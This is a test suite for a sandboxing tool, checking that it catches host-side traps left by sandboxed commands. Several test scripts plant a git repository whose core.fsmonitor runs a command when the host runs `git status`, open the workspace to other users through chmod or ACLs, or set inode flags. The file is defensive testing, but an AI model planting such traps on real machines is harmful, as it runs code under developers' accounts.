test("a .git and protected names made in a placeholder's shape and filled later are moved aside at once", { skip: NO_GIT }, async (t) => {
  const tree = tempTree(t)
  const script = [
    'mkdir g && chmod 1500 g && mv g .git',
    ': > e && chmod 1400 e && mv e .envrc',
    ': > b && exec 3>>b && chmod 1400 b && mv b .bashrc',
    'sleep 0.3',
    // Empty, in a placeholder's shape, they are left: what follows is what the keeper must see.
    'test -d .git && test -f .envrc && test -f .bashrc && echo shaped',
    "chmod 700 .git && printf '[core]\\n\\tfsmonitor = touch PWNED\\n' > .git/config 2>/dev/null",
    'chmod 600 .envrc && echo evil > .envrc 2>/dev/null',
    'echo evil >&3',
    'sleep 0.6',
    'for n in .git .envrc .bashrc; do test -e $n && echo STILL-$n; done; true',
  ].join('\n')
  const r = await sh(script, { cwd: tree.ws, sandbox: WW })
  assert.equal(r.exitCode, 0, show(r))
  assert.match(r.stdout, /^shaped$/m, show(r))
  assert.doesNotMatch(r.stdout, /STILL/, `moved aside while the run went on\n${show(r)}`)
  for (const n of ['.git', '.envrc', '.bashrc']) {
    const risk = r.hostRisks.find((h) => h.path === path.join(tree.ws, n))
    assert.ok(risk && /undone at once: moved aside/.test(risk.detail), `${n}: ${JSON.stringify(r.hostRisks)}`)
    assert.equal(snapshot(path.join(tree.ws, n)).exists, false, `${n} left after the run`)
  }
})

// Found and reproduced by a fixer: the keeper moves a path made again aside a bounded number of
// times (so that a loop cannot fill the directory with moved copies), and past that bound it left
// the path alone until the run ended: a command that made .git 17 times kept a planted repository
// at the workspace's top for the rest of its run, for the host's `git status` (an editor's, a shell
// prompt's) to run its core.fsmonitor. Each rename of the loop succeeds only once the keeper has
// moved the last .git away, so the loop cannot outrun it; 30 s only bound a keeper that never does.
test("a .git made again and again at the workspace's top ends the run rather than stay there", { skip: NO_GIT }, async (t) => {
  const tree = tempTree(t)
  const marker = path.join(tree.out, 'PWNED')
  const script = [
    'made=0; i=0; end=$((SECONDS + 30))',
    'while [ $made -lt 24 ] && [ $SECONDS -lt $end ]; do',
    '  i=$((i + 1)); mkdir -p g$i/objects g$i/refs/heads && echo "ref: refs/heads/main" > g$i/HEAD',
    `  printf '[core]\\n\\tfsmonitor = touch %s; false\\n' ${q(marker)} > g$i/config`,
    '  if mv -T g$i .git 2>/dev/null; then made=$((made + 1)); else rm -rf g$i; sleep 0.02; fi',
    'done',
    'echo "made $made"; touch looped; sleep 5',
  ].join('\n')
  const p = await sandspawn.startSandboxed(['bash', '-c', script], { cwd: tree.ws, sandbox: WW, timeout: 90_000 })
  let settled = false
  const waited = p.wait().finally(() => (settled = true))
  // The loop is over while the run goes on (what the unbounded keeper allowed), or the run ended.
  await waitFor(() => settled || fs.existsSync(path.join(tree.ws, 'looped')), 60_000, 50)
  let during = null
  if (!settled) {
    const left = fs.existsSync(path.join(tree.ws, '.git'))
    spawnSync('git', ['status'], { cwd: tree.ws, stdio: 'ignore', timeout: 20_000 })
    during = { left, ran: fs.existsSync(marker) }
  }
  const r = await waited
  assert.equal(during, null, `the loop ended and the run went on: ${JSON.stringify(during)}\n${show(r)}`)
  assert.equal(r.signal, 'SIGKILL', `the run was ended\n${show(r)}`)
  assert.equal(r.timedOut, false, show(r))
  const risk = r.hostRisks.find((h) => h.path === path.join(tree.ws, '.git') && /ended/.test(h.detail))
  assert.ok(risk && risk.kind === 'repository-created' && /16 times/.test(risk.detail), JSON.stringify(r.hostRisks))
  assert.equal(snapshot(path.join(tree.ws, '.git')).exists, false, 'a .git was left after the run')
  spawnSync('git', ['status'], { cwd: tree.ws, stdio: 'ignore', timeout: 20_000 })
  assert.equal(fs.existsSync(marker), false, "the host's git status ran the planted core.fsmonitor")
  const held = fs.readdirSync(tree.ws).filter((e) => e.startsWith('.git.sandspawn-held-'))
  assert.ok(held.length >= 16 && held.length <= 17, `moved copies: ${held.length}`)
})

// Found by an attacker's review (fix28): the workspace's top made a git directory itself
// (`HEAD`, `objects/`, `refs/` and a `config` with `core.worktree = .` and `core.fsmonitor`, no
// `.git`): git's discovery takes a directory holding `HEAD`, `objects` and `refs` for a bare
// repository when it has no `.git`, and its `core.worktree` makes it the work tree. The check
// after the run reported it, but during the run the host's `git status` in the workspace (a
// shell prompt's, an editor's) ran the fsmonitor: `.git` was kept absent there, `HEAD` was not.
describe("the workspace's top made a git directory (HEAD, objects, refs, config), during the run", () => {
  // Review mode writes the workspace into its change set: nothing lands there during the run.
  const MODES = { bwrap: {}, landlock: { linux: { allow: ['landlock'] } } }
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: the host's git status meanwhile runs nothing`, { skip: NO_GIT }, async (t) => {
      const tree = tempTree(t)
      const marker = path.join(tree.out, 'PWNED')
      const config = `[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = "touch ${marker}; false"\n`
      const script = [
        `mkdir objects refs 2>/dev/null; printf %s ${q(config)} > config; echo 'ref: refs/heads/main' > HEAD 2>/dev/null`,
        // READY once the keeper moved HEAD aside (a generous bound that catches only a keeper that
        // never does), beside the workspace: review mode's writes land in its change set.
        'for i in $(seq 300); do [ -s HEAD ] || break; sleep 0.1; done',
        `touch ${q(path.join(tree.out, 'READY'))}`,
        `for i in $(seq 100); do [ -e ${q(path.join(tree.out, 'DONE'))} ] && break; sleep 0.1; done; true`,
      ].join('\n')
      const running = sh(script, { cwd: tree.ws, sandbox: { ...WW, writableRoots: [tree.out] }, timeout: 60_000, ...(extra.linux ? { linux: extra.linux } : {}) })
      await waitFor(() => fs.existsSync(path.join(tree.out, 'READY')), 30_000, 50)
      spawnSync('git', ['status'], { cwd: tree.ws, stdio: 'ignore', timeout: 20_000, env: { ...process.env, GIT_CEILING_DIRECTORIES: tree.root } })
      fs.writeFileSync(path.join(tree.out, 'DONE'), '')
      const r = await running
      assert.equal(r.exitCode, 0, show(r))
      assert.equal(fs.existsSync(marker), false, `the host's git status during the run ran the planted fsmonitor: ${JSON.stringify(r.hostRisks)}`)
      assert.equal(fs.existsSync(path.join(tree.ws, 'HEAD')), false, 'HEAD stayed')
      const risk = (r.hostRisks || []).find((h) => h.path === path.join(tree.ws, 'HEAD') || h.path === tree.ws)
      assert.ok(extra.linux || (risk && /core\.fsmonitor|git/.test(risk.detail)), JSON.stringify(r.hostRisks))
    })
  }
})

// Alone and last: /tmp is a writable root too.
describe('/tmp keeps its missing names absent', () => {
  test('.git and a protected name created at the top of /tmp are moved aside at once and reported; nothing is left in their place', async (t) => {
    const tree = tempTree(t)
    const probe = ['.git', '.envrc'].filter((n) => !snapshot(path.join('/tmp', n)).exists)
    if (probe.length === 0) return t.skip('/tmp/.git and /tmp/.envrc both exist on this host: nothing to keep absent there')
    t.after(() => {
      for (const e of fs.readdirSync('/tmp')) if (probe.some((n) => e.startsWith(`${n}.sandspawn-held-`))) fs.rmSync(path.join('/tmp', e), { recursive: true, force: true })
    })
    const script = probe.map((n) => `mkdir /tmp/${n} 2>/dev/null || echo x > /tmp/${n}`).join('; ') + '; sleep 0.3; ' + probe.map((n) => `test -e /tmp/${n} && echo STILL-${n}`).join('; ') + '; true'
    const r = await sh(script, { cwd: tree.ws, sandbox: WW })
    assert.equal(r.exitCode, 0, show(r))
    assert.doesNotMatch(r.stdout, /STILL/, `moved aside while the run went on\n${show(r)}`)
    for (const n of probe) {
      assert.equal(snapshot(path.join('/tmp', n)).exists, false, `/tmp/${n} was left`)
      assert.ok(r.hostRisks.some((h) => h.path === path.join('/tmp', n) && /moved aside/.test(h.detail)), JSON.stringify(r.hostRisks))
    }
  })
})

// Found by attackers' reviews: /tmp's top made a git directory itself (HEAD, objects/, refs/, config
// written there, no .git): git run on the host in any folder below it that is no repository of its
// own (a build directory in /tmp) used it, and ran its core.fsmonitor, after the run and (host27)
// during it (any cwd's run can write /tmp's top). Its HEAD is kept absent at once now, and the check
// after the run still names the configuration written beside it. Shown with $TMPDIR, the same kind
// of root (the walk skips both), so the shared /tmp is left alone.
test("a temporary directory's top made a git directory is out of git's sight during the run too", { skip: NO_GIT }, async (t) => {
  const tree = tempTree(t)
  const tmpdir = path.join(tree.root, 'tmpdir')
  const build = path.join(tmpdir, 'build')
  fs.mkdirSync(build, { recursive: true })
  const mark = path.join(tree.out, 'FSMONITOR-RAN')
  const config = `[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = "touch ${mark}; false"\n`
  // READY once the keeper has moved HEAD aside, then the run waits for the host's git status (both
  // with generous bounds that only catch a keeper that never moves it): the host's git runs during
  // the run, not in the instant between the write and the move.
  const gone = 'for i in $(seq 300); do [ -s HEAD ] || break; sleep 0.1; done'
  const done = 'for i in $(seq 300); do [ -e DONE ] && break; sleep 0.1; done'
  const script = `cd "$TMPDIR" && printf ${q(config)} > config && mkdir objects refs && echo 'ref: refs/heads/main' > HEAD; ${gone}; touch READY; ${done}; rm -f READY DONE`
  const running = sh(script, { cwd: tree.ws, sandbox: WW, env: { PATH: process.env.PATH, TMPDIR: tmpdir } })
  await waitFor(() => fs.existsSync(path.join(tmpdir, 'READY')), 30000)
  spawnSync('git', ['status'], { cwd: build, stdio: 'ignore', env: { ...process.env, GIT_CEILING_DIRECTORIES: tree.root } })
  fs.writeFileSync(path.join(tmpdir, 'DONE'), '')
  const r = await running
  assert.equal(r.exitCode, 0, show(r))
  assert.equal(fs.existsSync(mark), false, `the host's git status during the run ran the planted fsmonitor: ${JSON.stringify(r.hostRisks)}`)
  const risk = r.hostRisks.find((h) => h.path === tmpdir && h.kind === 'git-directory-created')
  assert.ok(risk && /core\.fsmonitor/.test(risk.detail) && /moved aside/.test(risk.detail), JSON.stringify(r.hostRisks))
  assert.equal(fs.existsSync(path.join(tmpdir, 'HEAD')), false)
  spawnSync('git', ['status'], { cwd: build, stdio: 'ignore', env: { ...process.env, GIT_CEILING_DIRECTORIES: tree.root } })
  assert.equal(fs.existsSync(mark), false, "the host's git status after the run ran the planted fsmonitor")
})

// Found by a review of that fix: a host that exited mid-run (process.exit, a crash) never ran the
// check after it, and the check looked only at what changed during a run: the git directory stayed
// at the top for good, unreported by every later run. A later run reports it whenever it was made.
test("a temporary directory's top left a git directory by an earlier run is reported by the next one", { skip: NO_GIT }, async (t) => {
  const tree = tempTree(t)
  const tmpdir = path.join(tree.root, 'tmpdir')
  fs.mkdirSync(path.join(tmpdir, 'objects'), { recursive: true })
  fs.mkdirSync(path.join(tmpdir, 'refs'))
  fs.writeFileSync(path.join(tmpdir, 'HEAD'), 'ref: refs/heads/main\n')
  fs.writeFileSync(path.join(tmpdir, 'config'), '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = "touch x; false"\n')
  // Older than the run's start (whole seconds).
  await new Promise((r) => setTimeout(r, 1100))
  const r = await sandspawn.spawnSandboxed(['true'], { cwd: tree.ws, sandbox: WW, env: { PATH: process.env.PATH, TMPDIR: tmpdir } })
  assert.equal(r.exitCode, 0, show(r))
  const risk = r.hostRisks.find((h) => h.path === tmpdir && h.kind === 'git-directory-created')
  assert.ok(risk, `not reported\n${JSON.stringify(r.hostRisks)}`)
  assert.match(risk.detail, /moved aside/)
  assert.equal(fs.existsSync(path.join(tmpdir, 'HEAD')), false)
})

// Found by an attacker's review: a repository planted below a directory the run then made
// unreadable to the user (root lists any directory) was out of the walk's sight after the run.
test('a directory the run made unreadable is reported, not silently skipped', { skip: (process.getuid() === 0 && 'root lists any directory: needs an ordinary user (the CI runs this suite as one)') || NO_GIT }, async (t) => {
  const tree = tempTree(t)
  const deep = path.join(tree.ws, 'deep')
  fs.mkdirSync(deep)
  let r
  try {
    r = await sandspawn.spawnSandboxed(['sh', '-c', 'git init -q deep/sub && git -C deep/sub config core.fsmonitor "touch /tmp/x" && chmod 300 deep'], { cwd: tree.ws, sandbox: WW })
  } finally {
    fs.chmodSync(deep, 0o700)
  }
  assert.equal(r.exitCode, 0, show(r))
  const flagged = r.hostRisks.filter((h) => h.kind === 'scan-incomplete' && h.path === deep)
  assert.equal(flagged.length, 1, JSON.stringify(r.hostRisks))
  assert.match(flagged[0].detail, /unreadable/)
})

// Found by an attacker's review, both shown end to end (the host user's `git status` in the planted
// directory ran its core.fsmonitor): the walk after the run kept at most 24 directories it could
// not list, and the report dropped each it could not lstat. 30 directories past PATH_MAX filled
// the 24 and were dropped, and with them the README's `chmod 300` directory holding a repository;
// and after a first run (the walk keeps its listings), a repository planted in P/sub then `chmod
// 000 P` left P/sub unlistable and un-lstat-able: `hostRisks` was empty both times. Root lists any
// directory, so the host side runs as an ordinary user: this test's own uid, or, as root, a uid of
// its own through `setpriv`.
const UNREAD_UID = 64128 // a uid no other test uses
test('every directory the walk after the run could not list is counted and reported: past 24 of them, below a chmod 000 directory, and one unreadable before the run', { skip: (process.getuid() === 0 && require('../fixtures/other-user').cannotRunAs(UNREAD_UID)) || false }, async (t) => {
  // Removed with rm, which works by descriptors: fs.rmSync fails past PATH_MAX (the fixture
  // removes its directories there itself, unless it failed on the way).
  const home = fs.realpathSync(fs.mkdtempSync('/var/tmp/sandspawn-unread-'))
  t.after(() => spawnSync('rm', ['-rf', home]))
  const ws = path.join(home, 'ws')
  fs.mkdirSync(ws)
  let [cmd, args, env] = [process.execPath, [path.join(__dirname, '..', 'fixtures', 'unreadable-walk.js'), ws], process.env]
  if (process.getuid() === 0) {
    const { stagedCheckout, asUser } = require('../fixtures/other-user')
    for (const p of [home, ws]) fs.chownSync(p, UNREAD_UID, UNREAD_UID)
    fs.chmodSync(home, 0o755)
    ;[cmd, args] = asUser(UNREAD_UID, [path.join(stagedCheckout(), '__test__', 'fixtures', 'unreadable-walk.js'), ws])
    env = { PATH: process.env.PATH, HOME: home }
  }
  const out = await new Promise((resolve, reject) => {
    require('node:child_process').execFile(cmd, args, { cwd: ws, env, timeout: 180_000, maxBuffer: 16 << 20 }, (err, stdout, stderr) => {
      if (err) return reject(new Error(`${err.message}\n${stderr}`))
      resolve(JSON.parse(stdout))
    })
  })
  assert.equal(out.error, undefined, JSON.stringify(out))
  const brief = (r) => JSON.stringify(r.hostRisks.map((h) => [h.kind, h.path.length > 200 ? `${h.path.slice(0, 60)}...(${h.path.length})` : h.path]))
  assert.equal(out.cap.exitCode, 0, out.cap.stderr)
  assert.ok(out.cap.hostRisks.some((h) => h.kind === 'scan-incomplete' && h.path === out.hide), `the chmod 300 directory: ${brief(out.cap)}`)
  const long = out.cap.hostRisks.find((h) => h.kind === 'scan-incomplete' && h.path === out.longTop)
  assert.ok(long && /could not list 30 directories below this one/.test(long.detail), `the 30 no path names, at the one above them: ${brief(out.cap)}`)
  assert.equal(out.first.exitCode, 0, out.first.stderr)
  assert.equal(out.p000.exitCode, 0, out.p000.stderr)
  const p = out.p000.hostRisks.find((h) => h.kind === 'scan-incomplete' && h.path === out.P)
  assert.ok(p && /sub/.test(p.detail), `the chmod 000 directory above the planted one: ${brief(out.p000)}`)
  // Found on the way: nothing the watcher hears of tells of a change below a directory the walk
  // could not list, so a quiet watcher skipped the walk after the run altogether.
  assert.equal(out.pre000.exitCode, 0, out.pre000.stderr)
  assert.ok(out.pre000.hostRisks.some((h) => h.kind === 'scan-incomplete' && h.path === out.D), `the directory unreadable before the run: ${brief(out.pre000)}`)
  assert.ok(!fs.existsSync(path.join(ws, 'PWNED')), 'nothing planted ran')
})

// A direct run that opens the workspace's top to other users (`chmod 777 .`, `chmod -R o+w .`):
// review mode holds that back (permissions-changed), a direct run reported nothing (found by an
// attacker's review, mode31): after it any local user could create an `.envrc`, a
// `.vscode/tasks.json` or a `.mcp.json` there, which the host's tools run as the workspace's owner.
describe("a writable root's top opened to other users by a direct run", () => {
  for (const mechanism of ['bwrap', 'landlock']) {
    for (const [label, cmd, mode] of [['chmod 777 .', 'chmod 777 .', 0o777], ['chmod -R g+w .', 'chmod -R g+w .', 0o775]]) {
      test(`${mechanism}: ${label} is a permissions-changed host risk naming the fix; a top already so, or made stricter, is not`, async (t) => {
        const tree = tempTree(t)
        fs.chmodSync(tree.ws, 0o755)
        fs.writeFileSync(path.join(tree.ws, 'build.sh'), 'echo hi\n')
        const options = { cwd: tree.ws, sandbox: WW }
        if (mechanism === 'landlock') options.linux = { allow: ['landlock'] }
        const r = await sh(cmd, options)
        assert.equal(r.exitCode, 0, show(r))
        assert.equal(fs.statSync(tree.ws).mode & 0o777, mode)
        const risks = r.hostRisks.filter((h) => h.kind === 'permissions-changed' && h.path === tree.ws)
        assert.equal(risks.length, 1, `hostRisks: ${JSON.stringify(r.hostRisks)}`)
        assert.match(risks[0].detail, /chmod go-w/)
        // Nothing restored silently: the mode is the user's to judge.
        assert.equal(fs.statSync(tree.ws).mode & 0o777, mode)
        const again = await sh('chmod 700 .', options)
        assert.deepEqual(again.hostRisks.filter((h) => h.kind === 'permissions-changed'), [], 'made stricter, or already open before the run')
        fs.chmodSync(tree.ws, 0o777)
        const open = await sh('true', options)
        assert.deepEqual(open.hostRisks.filter((h) => h.kind === 'permissions-changed'), [], JSON.stringify(open.hostRisks))
        fs.chmodSync(tree.ws, 0o755)
      })
    }
  }
})

/** A run's default ACL on the workspace's top `tree.ws` (mode bits left 0755) opened what the host
 * makes there next to other users, and the run said so once; the next run, the ACL already there,
 * says nothing. */
async function assertTopAclReported(tree, r, options) {
  assert.equal(fs.statSync(tree.ws).mode & 0o777, 0o755, 'the mode bits say nothing')
  fs.mkdirSync(path.join(tree.ws, 'node_modules'))
  assert.equal(fs.statSync(path.join(tree.ws, 'node_modules')).mode & 0o002, 0o002, "the host's next directory there is open to other users")
  const risks = r.hostRisks.filter((h) => h.kind === 'permissions-changed' && h.path === tree.ws)
  assert.equal(risks.length, 1, `hostRisks: ${JSON.stringify(r.hostRisks)}`)
  assert.match(risks[0].detail, /setfacl -b/)
  const again = await sh('true', options)
  assert.deepEqual(again.hostRisks.filter((h) => h.kind === 'permissions-changed'), [], 'an ACL already there before the run')
}

// Found by an attacker's review (rfix31) of mode31's opened tops: the modes were compared, not the
// ACLs. A direct run set a default ACL on the workspace's top (`setfacl -d -m o::rwx .`, here as
// its raw xattr) and the top's mode stayed 0755, hostRisks []: every name the host's tools made
// there afterwards (an .envrc the user writes, npm's node_modules) was open to other users' writes
// (the umask is not applied under a default ACL: .envrc 0646, node_modules 0757), and any local
// user could then change what those tools run as the workspace's owner. An access ACL naming
// another user keeps a 0775 top's mode as it was, too.
describe("a writable root's top opened to other users through an ACL by a direct run", () => {
  const script = `import os, struct
def acl(entries):
    return struct.pack('<I', 2) + b''.join(struct.pack('<HHI', t, p, 0xffffffff) for t, p in entries)
os.setxattr('.', 'system.posix_acl_default', acl([(0x01, 7), (0x04, 5), (0x20, 7)]))
print('set', flush=True)
`
  for (const mechanism of ['bwrap', 'landlock']) {
    test(`${mechanism}: a default ACL giving other users write on the top is a permissions-changed host risk`, { skip: which('python3') === null && 'python3 is not installed' }, async (t) => {
      const tree = tempTree(t)
      fs.chmodSync(tree.ws, 0o755)
      const options = { cwd: tree.ws, sandbox: WW }
      if (mechanism === 'landlock') options.linux = { allow: ['landlock'] }
      const r = await sandspawn.spawnSandboxed(['python3', '-c', script], options)
      if (r.exitCode !== 0 && /Operation not supported/.test(r.stderr)) return t.skip('no ACLs on this filesystem')
      if (r.exitCode !== 0 && /Operation not permitted/.test(r.stderr)) {
        // Refused (the Landlock mode's filter): nothing opened.
        fs.mkdirSync(path.join(tree.ws, 'node_modules'))
        assert.equal(fs.statSync(path.join(tree.ws, 'node_modules')).mode & 0o022, 0, 'refused: no ACL there')
        return
      }
      assert.equal(r.exitCode, 0, show(r))
      await assertTopAclReported(tree, r, options)
    })
  }
})

// Found by an attacker's review (kern44): a direct run set inode flags on the workspace's top
// (`chattr +dS .`: FS_IOC_SETFLAGS, which needs only the owner and a writable mount) and hostRisks
// was []: the flags stayed on the host's directory, and ext4 passes nodump and sync on to every
// file and directory the host makes there afterwards (backups that honour nodump, `dump` and `borg
// --exclude-nodump`, skip them; each write waits for the disk). The Landlock mode's filter refuses
// the request (its inode attributes).
describe("a writable root's top given inode flags by a direct run", () => {
  const flags = (p) => Number(execFileSync('python3', ['-c', 'import fcntl, os, struct, sys\nfd = os.open(sys.argv[1], os.O_RDONLY)\nprint(struct.unpack("i", fcntl.ioctl(fd, 0x80086601, bytes(4)))[0])', p], { encoding: 'utf8' }))
  const script = `import fcntl, os, struct
fd = os.open('.', os.O_RDONLY)
now = struct.unpack('i', fcntl.ioctl(fd, 0x80086601, bytes(4)))[0]
fcntl.ioctl(fd, 0x40086602, struct.pack('i', now | 0x40 | 0x8))
print('set', flush=True)
`
  for (const mechanism of ['bwrap', 'landlock']) {
    test(`${mechanism}: nodump and sync turned on at the top are a permissions-changed host risk naming the fix`, { skip: which('python3') === null && 'python3 is not installed' }, async (t) => {
      const tree = tempTree(t)
      t.after(() => { try { execFileSync('python3', ['-c', 'import fcntl, os, struct, sys\nfd = os.open(sys.argv[1], os.O_RDONLY)\nfcntl.ioctl(fd, 0x40086602, struct.pack("i", 0))', tree.ws]) } catch {} })
      const options = { cwd: tree.ws, sandbox: WW }
      if (mechanism === 'landlock') options.linux = { allow: ['landlock'] }
      const r = await sandspawn.spawnSandboxed(['python3', '-c', script], options)
      if (r.exitCode !== 0 && /Operation not supported|Inappropriate ioctl/.test(r.stderr)) return t.skip('no inode flags on this filesystem')
      if (r.exitCode !== 0 && /Operation not permitted/.test(r.stderr)) {
        // Refused (the Landlock mode's filter): nothing set.
        assert.equal(flags(tree.ws) & 0x48, 0, 'refused: no flag there')
        return
      }
      assert.equal(r.exitCode, 0, show(r))
      fs.mkdirSync(path.join(tree.ws, 'node_modules'))
      assert.equal(flags(path.join(tree.ws, 'node_modules')) & 0x48, 0x48, "the host's next directory there has them")
      const risks = r.hostRisks.filter((h) => h.kind === 'permissions-changed' && h.path === tree.ws)
      assert.equal(risks.length, 1, `hostRisks: ${JSON.stringify(r.hostRisks)}`)
      assert.match(risks[0].detail, /chattr -Sd /)
      const again = await sh('true', options)
      assert.deepEqual(again.hostRisks.filter((h) => h.kind === 'permissions-changed'), [], 'flags already there before the run')
    })
  }
})

// Found by an attacker's review (fix32) of rfix31's top ACLs: they were read into a 4 KiB buffer,
// and an ACL longer than that (ext4 keeps one within a block, but tmpfs, XFS and btrfs take up to
// 64 KiB: a workspace in a tmpfs /tmp, as Fedora and Arch mount it) read as none. A bwrap run set
// a default ACL of 4,836 bytes on a tmpfs workspace's top (600 entries naming its own user, the
// only one its user namespace maps, and o::rwx) and hostRisks was [], while the host's next
// node_modules and .envrc there were 0777 and 0666. Root only: the workspace is a tmpfs mounted
// here (mode 0755).
describe("a writable root's top opened to other users through an ACL past 4 KiB", () => {
  const script = `import os, struct
def entry(t, p, i=0xffffffff):
    return struct.pack('<HHI', t, p, i)
named = b''.join(entry(0x02, 7, os.getuid()) for _ in range(600))
acl = struct.pack('<I', 2) + entry(0x01, 7) + named + entry(0x04, 5) + entry(0x10, 7) + entry(0x20, 7)
os.setxattr('.', 'system.posix_acl_default', acl)
print('set', len(acl), flush=True)
`
  const skip = which('python3') === null ? 'python3 is not installed' : process.getuid() !== 0 && 'mounting a tmpfs needs root'
  test('bwrap: a default ACL of 4,836 bytes on a tmpfs top is a permissions-changed host risk', { skip }, async (t) => {
    const tree = tempTree(t)
    execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=4m,mode=0755', 'tmpfs', tree.ws])
    try {
      const options = { cwd: tree.ws, sandbox: WW }
      const r = await sandspawn.spawnSandboxed(['python3', '-c', script], options)
      if (r.exitCode !== 0 && /Operation not supported/.test(r.stderr)) return t.skip('no ACLs on this tmpfs')
      assert.equal(r.exitCode, 0, show(r))
      assert.equal(r.stdout, 'set 4836\n', show(r))
      await assertTopAclReported(tree, r, options)
    } finally {
      execFileSync('umount', ['-l', tree.ws])
    }
  })
})
